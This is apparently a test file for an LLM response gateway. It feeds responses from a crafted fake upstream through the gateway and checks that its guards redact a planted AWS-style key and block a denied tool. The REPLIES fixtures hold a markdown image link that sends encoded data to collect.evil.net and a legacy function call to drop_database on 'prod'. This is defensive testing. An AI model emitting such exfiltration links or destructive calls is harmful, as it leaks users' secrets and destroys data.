// Complete mediation of the response surface, end to end: a crafted upstream plants a secret in every text a
// client can read (reasoning, refusal, content parts, logprobs, unknown fields, a second choice) and calls a
// denied tool through the legacy function_call; through the default guards none of it reaches the client.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { buildWarden, type WardenApp } from '../src/app.js';
import { embeddedDefaults, validateConfig } from '../src/config/load.js';
import {
  type CraftedReply,
  type CraftedUpstream,
  pieces,
  startCraftedUpstream,
} from './fixtures/crafted-upstream.js';
import { tempDir } from './helpers.js';

// Assembled at run time so that no complete credential sits in the source.
const KEY = `AKIA${'2E3F4G5H6J7K2L3M'}`;
const ANSWER = 'The answer is four.';
// Longer than the hold-back window, so a stream releases text (and what rides with it) before it ends.
const LONG = 'Adding two and two is one of the first sums a child learns at school. '.repeat(4);

type Json = Record<string, unknown>;
type Fields = Record<string, string>;

const head = { id: 'chatcmpl-x', object: 'chat.completion', created: 1, model: 'crafted' };

function chatJson(choices: { message: Json; extra?: Json }[], top: Json = {}): Json {
  return {
    ...head,
    ...top,
    choices: choices.map((c, index) => ({
      index,
      message: { role: 'assistant', ...c.message },
      finish_reason: 'stop',
      logprobs: null,
      ...c.extra,
    })),
    usage: { prompt_tokens: 3, completion_tokens: 9, total_tokens: 12 },
  };
}

/** Streams each choice's text fields in 3-character pieces, fields and choices interleaved chunk by chunk. */
function chatChunks(choices: Fields[], extra: (choice: number, step: number) => Json = () => ({})): Json[] {
  const split = choices.map((f) => Object.entries(f).map(([k, v]) => [k, pieces(v)] as const));
  const steps = Math.max(...split.flatMap((f) => f.map(([, p]) => p.length)));
  const out: Json[] = [];
  for (let s = 0; s < steps; s++) {
    split.forEach((fields, index) => {
      const delta: Json = s === 0 ? { role: 'assistant' } : {};
      for (const [k, p] of fields) if (p[s] !== undefined) delta[k] = p[s];
      out.push({ ...head, object: 'chat.completion.chunk', choices: [{ index, delta, ...extra(index, s) }] });
    });
  }
  for (let index = 0; index < choices.length; index++)
    out.push({
      ...head,
      object: 'chat.completion.chunk',
      choices: [{ index, delta: {}, finish_reason: 'stop' }],
    });
  return out;
}

const tokenEntry = (token: string, bytesOf = token) => ({
  token,
  logprob: -0.1,
  bytes: [...Buffer.from(bytesOf, 'utf8')],
  top_logprobs: [],
});

/** A reply whose content is `content` while its logprobs spell `tokens` (and their bytes spell `bytes`). */
function logprobReply(content: string, tokens: string, bytes = tokens): CraftedReply {
  const t = pieces(tokens);
  const b = pieces(bytes);
  const entries = Array.from({ length: Math.max(t.length, b.length) }, (_, i) =>
    tokenEntry(t[i] ?? '', b[i] ?? ''),
  );
  const c = pieces(content);
  return {
    json: chatJson([{ message: { content }, extra: { logprobs: { content: entries, refusal: null } } }]),
    chunks: [
      ...c.map((piece, i) => ({
        ...head,
        object: 'chat.completion.chunk',
        choices: [
          {
            index: 0,
            delta: { content: piece },
            logprobs: { content: i === c.length - 1 ? entries.slice(i) : entries.slice(i, i + 1) },
          },
        ],
      })),
      { ...head, object: 'chat.completion.chunk', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
    ],
  };
}

// A fence opened at the end of the reasoning, before the position of the answer's image.
const FENCED = `${LONG}\n\`\`\`\n`;
const EXFIL = `![chart](https://collect.evil.net/p.png?d=${'dXNlciBzZWNyZXQgaXMgaGVyZQ'})`;

/** A completion whose text is clean while the first rank of its alternatives spells the key. */
function completionReply(content: string, alternatives: string): CraftedReply {
  const c = pieces(content);
  const alt = pieces(alternatives);
  const lp = (from: number, to: number) => ({
    tokens: c.slice(from, to),
    token_logprobs: c.slice(from, to).map(() => -0.1),
    top_logprobs: c.slice(from, to).map((_, i) => ({ [alt[from + i] ?? '']: -2 })),
    text_offset: c.slice(from, to).map((_, i) => (from + i) * 3),
  });
  const top = { id: 'cmpl-x', object: 'text_completion', created: 1, model: 'crafted' };
  return {
    json: {
      ...top,
      choices: [{ index: 0, text: content, logprobs: lp(0, c.length), finish_reason: 'stop' }],
    },
    chunks: [
      ...c.map((piece, i) => ({ ...top, choices: [{ index: 0, text: piece, logprobs: lp(i, i + 1) }] })),
      { ...top, choices: [{ index: 0, text: '', finish_reason: 'stop' }] },
    ],
  };
}

const REPLIES: Record<string, CraftedReply> = {
  'fenced-reasoning': {
    // The reasoning opens a code fence it never closes: the answer's image must not be read as inside it.
    json: chatJson([
      { message: { reasoning_content: FENCED, content: `${LONG}${LONG}Here is the chart: ${EXFIL} now.` } },
    ]),
    chunks: chatChunks([
      { reasoning_content: FENCED, content: `${LONG}${LONG}Here is the chart: ${EXFIL} now.` },
    ]),
  },
  'completion-logprobs': completionReply(LONG + ANSWER, `${LONG.slice(0, 200)}The key is ${KEY} ok`),
  embedding: {
    json: {
      object: 'list',
      data: [{ object: 'embedding', index: 0, embedding: [0.25, -0.5], note: KEY }],
      model: 'crafted',
      usage: { prompt_tokens: 2, total_tokens: 2 },
      x_debug: KEY,
    },
    chunks: [],
  },
  'reasoning-content': {
    json: chatJson([
      { message: { content: ANSWER, reasoning_content: `First recall the key ${KEY} then add.` } },
    ]),
    chunks: chatChunks([{ reasoning_content: `First recall the key ${KEY} then add.`, content: ANSWER }]),
  },
  reasoning: {
    json: chatJson([{ message: { content: ANSWER, reasoning: `Scratch: key=${KEY}; sum=4` } }]),
    chunks: chatChunks([{ reasoning: `Scratch: key=${KEY}; sum=4`, content: ANSWER }]),
  },
  refusal: {
    json: chatJson([{ message: { content: null, refusal: `I will not print ${KEY} for you.` } }]),
    chunks: chatChunks([{ refusal: `I will not print ${KEY} for you.` }]),
  },
  parts: {
    // The key is split across two text parts: a client that joins them reads it whole.
    json: chatJson([
      {
        message: {
          content: [
            { type: 'text', text: `Your key: ${KEY.slice(0, 8)}` },
            { type: 'output_text', text: `${KEY.slice(8)} and ${ANSWER}` },
          ],
        },
      },
    ]),
    chunks: [
      ...pieces(`Your key: ${KEY} and ${ANSWER}`).map((p) => ({
        ...head,
        object: 'chat.completion.chunk',
        choices: [{ index: 0, delta: { content: [{ type: 'text', text: p }] } }],
      })),
      { ...head, object: 'chat.completion.chunk', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
    ],
  },
  'logprobs-tokens': logprobReply(LONG + ANSWER, `${LONG}The key is ${KEY} ok`),
  'logprobs-bytes': logprobReply(LONG + ANSWER, LONG + ANSWER, `${LONG}The key is ${KEY} here`),
  'logprobs-redacted-content': logprobReply(`${LONG}The key is ${KEY}.`, `${LONG}The key is ${KEY}.`),
  'logprobs-clean': logprobReply(LONG + ANSWER, LONG + ANSWER),
  'unknown-fields': {
    json: chatJson([{ message: { content: ANSWER, audio: { transcript: KEY } }, extra: { x_note: KEY } }]),
    chunks: chatChunks([{ content: ANSWER, x_trace: `note ${KEY} end` }], (_, s) =>
      s === 0 ? { x_note: KEY } : {},
    ),
  },
  'unknown-top-clean': {
    json: chatJson([{ message: { content: ANSWER } }], { x_debug: { trace: 'all fine' } }),
    chunks: chatChunks([{ content: ANSWER }]),
  },
  'unknown-top': {
    json: chatJson([{ message: { content: ANSWER } }], { x_debug: { trace: `upstream saw ${KEY}` } }),
    chunks: chatChunks([{ content: ANSWER }]).map((c, i) => (i === 0 ? { ...c, x_debug: KEY } : c)),
  },
  'odd-choices': {
    json: {
      ...chatJson([{ message: { content: ANSWER } }]),
      choices: [...(chatJson([{ message: { content: ANSWER } }]).choices as Json[]), KEY],
    },
    chunks: chatChunks([{ content: ANSWER }]).map((c, i) =>
      i === 0 ? { ...c, choices: [...(c.choices as Json[]), KEY] } : c,
    ),
  },
  'n-two': {
    json: chatJson([
      { message: { content: ANSWER } },
      { message: { content: `Key ${KEY}.`, reasoning_content: `It is ${KEY}` } },
    ]),
    chunks: chatChunks([{ content: ANSWER }, { content: `Key ${KEY}.`, reasoning_content: `It is ${KEY}` }]),
  },
  'function-call': {
    json: chatJson([
      {
        message: { content: null, function_call: { name: 'drop_database', arguments: '{"name":"prod"}' } },
        extra: { finish_reason: 'function_call' },
      },
    ]),
    chunks: [
      {
        ...head,
        choices: [
          { index: 0, delta: { role: 'assistant', function_call: { name: 'drop_database', arguments: '' } } },
        ],
      },
      ...pieces('{"name":"prod"}').map((a) => ({
        ...head,
        choices: [{ index: 0, delta: { function_call: { arguments: a } } }],
      })),
      { ...head, choices: [{ index: 0, delta: {}, finish_reason: 'function_call' }] },
    ],
  },
  'function-call-allowed': {
    json: chatJson([
      {
        message: { content: null, function_call: { name: 'lookup', arguments: '{"id":"7"}' } },
        extra: { finish_reason: 'function_call' },
      },
    ]),
    chunks: [
      {
        ...head,
        choices: [
          { index: 0, delta: { role: 'assistant', function_call: { name: 'lookup', arguments: '' } } },
        ],
      },
      ...pieces('{"id":"7"}').map((a) => ({
        ...head,
        choices: [{ index: 0, delta: { function_call: { arguments: a } } }],
      })),
      { ...head, choices: [{ index: 0, delta: {}, finish_reason: 'function_call' }] },
    ],
  },
};

/**
 * Everything a client can reassemble: string leaves joined per path (array indexes and chunk boundaries
 * removed, choices kept apart by index) and `bytes` arrays decoded, per path.
 */
function readable(values: unknown[]): Map<string, string> {
  const texts = new Map<string, string>();
  const bytes = new Map<string, number[]>();
  const walk = (v: unknown, path: string) => {
    if (typeof v === 'string') texts.set(path, (texts.get(path) ?? '') + v);
    else if (typeof v === 'number' && path.endsWith('.bytes'))
      bytes.set(path, [...(bytes.get(path) ?? []), v]);
    else if (Array.isArray(v)) for (const x of v) walk(x, path);
    else if (v && typeof v === 'object') {
      // legacy completions keep their alternatives as object keys
      if (path.endsWith('.top_logprobs'))
        texts.set(`${path}:keys`, (texts.get(`${path}:keys`) ?? '') + Object.keys(v).join(''));
      for (const [k, x] of Object.entries(v)) {
        if (k === 'choices' && Array.isArray(x))
          for (const c of x) walk(c, `${path}.choice${(c as { index?: number }).index ?? 0}`);
        else walk(x, `${path}.${k}`);
      }
    }
  };
  for (const v of values) walk(v, '');
  for (const [p, b] of bytes) texts.set(`${p}:decoded`, Buffer.from(b).toString('utf8'));
  return texts;
}

interface Answer {
  raw: string;
  texts: Map<string, string>;
  events: Json[];
}

let upstream: CraftedUpstream;
let app: WardenApp;
let base: string;
let dataDir: string;

before(async () => {
  upstream = await startCraftedUpstream(REPLIES);
  dataDir = tempDir('warden-mediation-');
  const defaults = embeddedDefaults({ upstream: upstream.url });
  const guards = defaults.guards as { toolCall: unknown[] };
  const config = validateConfig({
    ...defaults,
    auth: { mode: 'none' },
    dataDir,
    logging: { level: 'silent' },
    guards: {
      ...defaults.guards,
      toolCall: [
        ...guards.toolCall,
        {
          use: 'tool-policy',
          id: 'deny-drop',
          options: { policies: [{ rules: [{ tools: ['drop_*'], action: 'deny' }] }] },
        },
      ],
    },
  });
  app = buildWarden(config);
  const addr = await app.gateway.listen(0, '127.0.0.1');
  base = `http://127.0.0.1:${addr.port}/v1`;
});

after(async () => {
  await app?.close();
  await upstream?.close();
});

async function ask(model: string, stream: boolean, route = 'chat'): Promise<Answer> {
  const body =
    route === 'chat'
      ? { model, stream, logprobs: true, messages: [{ role: 'user', content: 'What is 2+2?' }] }
      : route === 'completions'
        ? { model, stream, logprobs: 1, prompt: 'What is 2+2?' }
        : { model, input: 'two plus two' };
  const res = await fetch(`${base}/${route === 'chat' ? 'chat/completions' : route}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const raw = await res.text();
  assert.equal(res.status, 200, raw.slice(0, 300));
  if (!stream) return { raw, texts: readable([JSON.parse(raw)]), events: [JSON.parse(raw) as Json] };
  const blocks = raw.split('\n\n').filter(Boolean);
  assert.equal(blocks.at(-1), 'data: [DONE]');
  const events = blocks.slice(0, -1).map((b) => JSON.parse(b.replace(/^data: /, '')) as Json);
  return { raw, texts: readable(events), events };
}

function assertNoKey(a: Answer): void {
  assert.ok(!a.raw.includes(KEY), 'the key is in the raw answer');
  for (const [path, text] of a.texts) assert.ok(!text.includes(KEY), `the key is readable at ${path}`);
}

const text = (a: Answer, path: string) => a.texts.get(path) ?? '';
const finishes = (a: Answer, choice = 0) => text(a, `.choice${choice}.finish_reason`);

for (const stream of [false, true]) {
  const mode = stream ? 'streamed' : 'JSON';
  const slot = (name: string, choice = 0) => `.choice${choice}.${stream ? 'delta' : 'message'}.${name}`;

  describe(`response surface (${mode})`, () => {
    it('redacts a key planted in reasoning_content, keeps the answer', async () => {
      const a = await ask('reasoning-content', stream);
      assertNoKey(a);
      assert.match(text(a, slot('reasoning_content')), /First recall the key \[REDACTED:[\w-]+\] then add\./);
      assert.equal(text(a, slot('content')), ANSWER);
    });

    it('redacts a key planted in reasoning', async () => {
      const a = await ask('reasoning', stream);
      assertNoKey(a);
      assert.match(text(a, slot('reasoning')), /REDACTED/);
      assert.equal(text(a, slot('content')), ANSWER);
    });

    it('redacts a key planted in refusal', async () => {
      const a = await ask('refusal', stream);
      assertNoKey(a);
      assert.match(text(a, slot('refusal')), /^I will not print \[REDACTED:[\w-]+\] for you\.$/);
    });

    it('redacts a key split across content parts', async () => {
      const a = await ask('parts', stream);
      assertNoKey(a);
      const content = text(a, stream ? slot('content') : slot('content.text'));
      assert.match(content, /REDACTED/);
      assert.ok(content.endsWith(ANSWER));
    });

    it('drops logprobs whose tokens spell a key the content does not show', async () => {
      const a = await ask('logprobs-tokens', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content')), LONG + ANSWER);
      assert.equal(text(a, '.choice0.logprobs.content.token'), '');
    });

    it('drops logprobs whose bytes spell a key', async () => {
      const a = await ask('logprobs-bytes', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content')), LONG + ANSWER);
      assert.equal(text(a, '.choice0.logprobs.content.token'), '');
    });

    it('drops the logprobs of a choice whose content was redacted', async () => {
      const a = await ask('logprobs-redacted-content', stream);
      assertNoKey(a);
      assert.match(text(a, slot('content')), /REDACTED/);
      assert.equal(text(a, '.choice0.logprobs.content.token'), '');
    });

    it('keeps clean logprobs', async () => {
      const a = await ask('logprobs-clean', stream);
      assert.equal(text(a, slot('content')), LONG + ANSWER);
      assert.equal(text(a, '.choice0.logprobs.content.token'), LONG + ANSWER);
      assert.equal(text(a, '.choice0.logprobs.content.bytes:decoded'), LONG + ANSWER);
    });

    it('does not pass unknown choice and message fields unseen', async () => {
      const a = await ask('unknown-fields', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content')), ANSWER);
    });

    it('does not pass an unknown top-level field unseen', async () => {
      const a = await ask('unknown-top', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content')), ANSWER);
    });

    it('drops a choice that is not an object', async () => {
      const a = await ask('odd-choices', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content')), ANSWER);
    });

    if (!stream)
      it('keeps an unknown top-level field of a JSON answer whose text the guards pass', async () => {
        const a = await ask('unknown-top-clean', stream);
        assert.equal(text(a, '.x_debug.trace'), 'all fine');
      });

    it('guards every choice of n=2 (key in the second choice, content and reasoning)', async () => {
      const a = await ask('n-two', stream);
      assertNoKey(a);
      assert.equal(text(a, slot('content', 0)), ANSWER);
      assert.match(text(a, slot('content', 1)), /REDACTED/);
      assert.match(text(a, slot('reasoning_content', 1)), /REDACTED/);
    });

    it('gives each text of a choice its own guard state (a fence opened in reasoning does not hide the answer)', async () => {
      const a = await ask('fenced-reasoning', stream);
      assert.ok(!text(a, slot('content')).includes('collect.evil.net'), text(a, slot('content')));
      assert.match(text(a, slot('content')), /Here is the chart: .*REDACTED.* now\.$/);
    });

    it('drops completion logprobs whose alternatives spell a key', async () => {
      const a = await ask('completion-logprobs', stream, 'completions');
      assertNoKey(a);
      assert.equal(text(a, '.choice0.text'), LONG + ANSWER);
      assert.equal(text(a, '.choice0.logprobs.tokens'), '');
    });

    it('blocks a legacy function_call to a denied tool', async () => {
      const a = await ask('function-call', stream);
      assert.ok(!a.raw.includes('drop_database'), 'the denied call reached the client');
      assert.equal(text(a, '.warden.guard'), 'deny-drop');
      assert.match(finishes(a), /content_filter$/);
    });

    it('releases an allowed legacy function_call whole', async () => {
      const a = await ask('function-call-allowed', stream);
      assert.equal(text(a, slot('function_call.name')), 'lookup');
      assert.equal(text(a, slot('function_call.arguments')), '{"id":"7"}');
      assert.equal(finishes(a), 'function_call');
    });
  });
}

describe('response surface (embeddings)', () => {
  it('drops unknown fields of an embeddings answer, keeps the vectors', async () => {
    const a = await ask('embedding', false, 'embeddings');
    assertNoKey(a);
    assert.deepEqual((a.events[0]!.data as { embedding: number[] }[])[0]!.embedding, [0.25, -0.5]);
  });
});
